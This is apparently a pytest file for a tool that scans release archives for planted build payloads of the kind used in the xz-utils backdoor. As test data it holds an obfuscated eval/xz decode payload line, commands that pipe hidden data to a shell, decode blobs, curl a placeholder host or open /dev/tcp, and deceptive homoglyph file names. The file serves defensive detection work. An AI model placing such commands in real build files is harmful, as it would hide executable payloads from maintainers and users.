"""What whoever plants something in an archive would try next: generated files, names, links, and places nobody unpacks."""

from __future__ import annotations

import gzip
import io
import zipfile

import pytest

from tests.tarball.archives import TAGGED, compared, member, packed, release, told, tree
from workers.tarball.commands import commands, loads
from workers.tarball.limits import Unfit
from workers.tarball.naming import deceptive

PAYLOAD = b'eval `tr "\\t -" " \\t" < tests/files/x | xz -d`'
BEFORE = [compared(release()).marks | {"added build file other"}]
AUTOMAKE = b"\n".join([
    rb"@AMDEP_TRUE@ xz -dc $(distdir).tar.xz | $(am__untar) ;;",
    rb" tardir=$(distdir) && $(am__tar) | eval GZIP= gzip $(GZIP_ENV) -c >$(distdir).tar.gz",
    rb" eval GZIP= gzip -dc $(distdir).shar.gz | unshar ;;",
    rb' test -z "$as_dirs" || eval "mkdir $as_dirs"',
    rb""" eval "`$CC_FOR_BUILD -E "$dummy.c" 2>/dev/null | grep '^LIBC' | sed 's, ,,g'`" """,
    b" | sh5el | sh) cpu=sh5le ;;",
    b" | s390 | sh \\",
    b"",
])  # fmt: skip


@pytest.mark.parametrize("path", ["configure", "Makefile.in", "aclocal.m4", "build-aux/ltmain.sh", "config.h.in", "missing"])
def test_a_payload_in_a_generated_file_is_told_on_the_first_day(path: str) -> None:
    """Whatever else such a file holds is not looked at."""
    (one,) = compared(release({path: b"#! /bin/sh\n" + AUTOMAKE + PAYLOAD + b"\n"})).fresh
    assert (one.how, one.path) == ("running", path)
    assert one.note == (
        "it has the line 'eval `tr t - t < tests/files/x | xz -d`', which neither the tag's files nor build tools explain"
    )


def test_what_the_tools_write_themselves_is_quiet() -> None:
    """Automake packs and unpacks in `make distcheck`, and config.guess evaluates what the compiler says."""
    assert commands(AUTOMAKE) == frozenset()
    assert told(compared(release({"configure": AUTOMAKE, "Makefile.in": AUTOMAKE}))) == []


def test_a_line_that_the_tag_or_an_earlier_release_has_is_quiet() -> None:
    """Generated files repeat what the project wrote."""
    line = b"\tgzip -dc data.gz | sh\n"
    with_line = {**TAGGED, "Makefile.am": TAGGED["Makefile.am"] + line}
    archive = release({"Makefile.am": with_line["Makefile.am"], "Makefile.in": b"@X_TRUE@" + line})
    assert told(compared(archive, tree(with_line))) == []
    first = compared(release({"Makefile.in": line}))
    assert told(first) == ["running Makefile.in"]
    assert told(compared(release({"Makefile.in": line}), earlier=[first.marks])) == []
    assert told(compared(release({"Makefile.in": line + PAYLOAD}), earlier=[first.marks])) == ["running Makefile.in"]


@pytest.mark.parametrize(
    "line",
    [
        b"cat $srcdir/tests/files/a | sh",
        b"printf x | /bin/bash -s",
        b"$gl_path_map < x | eval $gl_am",
        b"base64 --decode < x > y",
        b"openssl enc -d -in x",
        b"curl -s https://a.example/x -o y",
        b"exec 3<>/dev/tcp/192.0.2.1/80",
        b"grep -aErls '#{4}[[:alnum:]]{5}#{4}$' $srcdir/",
        b"tail -c +31265 x",
        b'eval "$(cat x)"',
        b". $srcdir/tests/run-env",
        b"x | python3 -",
    ],
)
def test_ways_to_run_what_is_elsewhere(line: bytes) -> None:
    """Each of them was in no generated file of the archives that were measured."""
    assert len(commands(line)) == 1


def test_a_changed_libtool_macro_that_runs_something_is_told_whatever_its_serial() -> None:
    """Distributions change libtool's macros, so unknown contents alone are no sign."""
    (one,) = compared(release({"m4/libtool.m4": b"# serial 58 LT_INIT\n" + PAYLOAD})).fresh
    assert one.note.startswith("it is no copy that is known here, which is usual for this one; it has the line 'eval ")


@pytest.mark.parametrize("name", ["CONFIGURE", "Makefile.IN", "readme", "SRC/main.c"])
def test_names_that_some_disks_merge_are_told(name: str) -> None:
    """On Windows and macOS the later one overwrites the other."""
    assert f"disguised {name}" in told(compared(release({name: b"x\n"})))


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("configur\N{CYRILLIC SMALL LETTER IE}", "letters of Cyrillic and Latin"),
        ("m4/g\N{CYRILLIC SMALL LETTER IE}ttext.m4", "letters of Cyrillic and Latin"),
        ("NEW\N{RIGHT-TO-LEFT OVERRIDE}S", "signs that nobody sees"),
        ("\N{CYRILLIC CAPITAL LETTER ER}\N{CYRILLIC SMALL LETTER U}.txt", ""),
        ("caf\N{LATIN SMALL LETTER E WITH ACUTE}.txt", ""),
        ("README", ""),
    ],
)
def test_names_that_look_like_others(name: str, why: str) -> None:
    """Words of one script are somebody's language."""
    assert (why in deceptive(name)) if why else deceptive(name) == ""
    assert bool(told(compared(release({name: TAGGED.get(name, b"x\n")})))) is bool(why)


def test_links_in_the_place_of_generated_files_are_told() -> None:
    """What is read where `configure` should be lies somewhere nobody looks."""
    files = [member(f"w/{path}", data) for path, data in {**TAGGED, "notes.txt": PAYLOAD}.items()]
    hard = packed([*files, member("w/configure", type=b"1", linkname="w/notes.txt")])
    soft = packed([*files, member("w/configure", type=b"2", linkname="notes.txt")])
    assert told(compared(hard)) == told(compared(soft)) == ["disguised configure"]


def test_files_without_what_they_are_made_from_are_no_generated_ones() -> None:
    """A `Makefile.in` comes from a `Makefile.am`; from the second release on another one is told."""
    changes = {"src/Makefile.in": b"all: evil\n", "tests/configure": b"evil\n"}
    assert told(compared(release(changes), earlier=BEFORE)) == ["added src/Makefile.in", "added tests/configure"]
    with_sources = {**changes, "src/Makefile.am": TAGGED["Makefile.am"], "tests/configure.ac": TAGGED["configure.ac"]}
    tagged = tree({**TAGGED, "src/Makefile.am": TAGGED["Makefile.am"], "tests/configure.ac": TAGGED["configure.ac"]})
    assert told(compared(release(with_sources), tagged, BEFORE)) == []


@pytest.mark.parametrize("path", ["doc/notes.txt", "po/de.gmo", "tests/data/sample", "stamp-evil.sh", "build-aux/helper"])
def test_places_where_anything_used_to_be_allowed(path: str) -> None:
    """Binary data with a harmless name, a script that calls itself a stamp, and something among the build tools."""
    assert told(compared(release({path: gzip.compress(b"x" * 99, mtime=0)}), earlier=BEFORE)) == [f"added {path}"]


def test_a_version_that_loads_something_is_told() -> None:
    """Packers write `_version.py`; what they write states a version."""
    stated = b'from typing import Tuple\nversion = "1.2"\n'
    assert not loads(stated)
    assert told(compared(release({"pkg/_version.py": stated}))) == []
    assert told(compared(release({"pkg/_version.py": stated + b"import os\nos.system('x')\n"}))) == ["added pkg/_version.py"]


def test_what_nobody_unpacks_is_told() -> None:
    """Another archive behind the end mark, a second compressed member, and plain bytes behind the compressed ones."""
    plain, more = packed([member(f"w/{p}", d) for p, d in TAGGED.items()], mode="w"), packed([member("w/x", b"x")], mode="w")
    for archive in (plain + more, gzip.compress(plain) + gzip.compress(more)):
        assert told(compared(archive)) == ["disguised data behind the archive's end mark"]
    assert told(compared(gzip.compress(plain) + PAYLOAD)) == ["disguised data behind the compressed ones"]
    assert told(compared(gzip.compress(plain) + bytes(512))) == []


def test_zip_archives_that_tell_two_stories_are_refused_or_told() -> None:
    """The names at the front and in the list at the end, and data that only a reader from the front sees."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for path, data in {**TAGGED, "doc/a.txt": b"x" * 100}.items():
            archive.writestr(f"w/{path}", data)
    good = made.getvalue()
    assert told(compared(good)) == []
    at = good.index(b"doc/a.txt")
    with pytest.raises(Unfit, match="two lists of contents name a file differently"):
        compared(good[:at] + b"m4/evil.m" + good[at + 9 :])
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("w/README", TAGGED["README"])
        inner.write(b"x" * 100)
        archive.start_dir = inner.tell()
        for path in list(TAGGED)[:4]:
            archive.writestr(f"w/{path}", TAGGED[path])
    assert told(compared(inner.getvalue())) == ["disguised data between the files of the zip archive"]


def test_what_gnulib_lists_is_its_own() -> None:
    """GNU's projects import dozens of scripts and sources with it, none of them in git."""
    listed = b"AC_DEFUN([gl_FILE_LIST], [\n  build-aux/announce-gen\n  tests/init.sh\n  lib/new.c\n  m4/memeq.m4\n])\n"
    imported = {"build-aux/announce-gen": b"#!/bin/sh\n", "gnulib-tests/init.sh": b"x\n", "m4/memeq.m4": b"# serial 1\n"}
    names = {**imported, "lib/new.c": b"x\n", "m4/gnulib-comp.m4": listed}
    first = compared(release(names))
    assert told(first) == []
    again = compared(release({**names, "m4/gnulib-comp.m4": listed + b"# once more\n"}), earlier=[first.marks])
    assert told(again) == []
    assert told(compared(release({**names, "tests/other.sh": b"x\n"}))) == ["added tests/other.sh"]
    assert told(compared(release({**names, "m4/memeq.m4": PAYLOAD}))) == ["running m4/memeq.m4"]
    assert len(told(compared(release(imported)))) == 3
